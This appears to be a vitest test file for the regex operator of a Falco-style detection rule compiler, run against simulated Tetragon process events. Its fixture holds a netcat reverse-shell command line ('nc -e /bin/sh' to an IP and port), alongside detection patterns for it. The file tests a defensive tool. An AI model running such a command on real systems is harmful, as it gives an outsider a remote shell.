import { describe, expect, it } from 'vitest';
import { compileCondition } from './condition-compiler';
import { parseCondition } from './condition-parser';
import { EventView } from './event-view';
import { execEvent, proc } from './tetragon-event-fixtures';

const env = { lists: new Map<string, string[]>(), macro: () => undefined };
const compile = (condition: string) => compileCondition(parseCondition(condition), env);

describe('the regex operator (Falco: RE2, the whole value)', () => {
  it('matches the whole value, as libs anchor both ends', () => {
    const nc = new EventView(execEvent(proc('/usr/bin/nc', { args: '-e /bin/sh 10.0.0.1 4444' })));
    expect(compile('proc.exepath regex "/usr/bin/n?c(at)?"').test(nc)).toBe(true);
    expect(compile('proc.exepath regex "bin/nc"').test(nc)).toBe(false);
    expect(compile('proc.cmdline regex "nc .*-e .*"').test(nc)).toBe(true);
  });

  it('runs a backtracking-hostile pattern in linear time', () => {
    const view = new EventView(execEvent(proc('/bin/sh', { args: `${'a'.repeat(5000)}!` })));
    const started = performance.now();
    expect(compile('proc.cmdline regex "sh (a+)+$"').test(view)).toBe(false);
    expect(performance.now() - started).toBeLessThan(2000);
  });

  it('refuses a pattern RE2 cannot run, naming it', () => {
    expect(() => compile('proc.name regex "(?=sh)"')).toThrow(/invalid regular expression \(RE2 syntax\)/);
  });
});
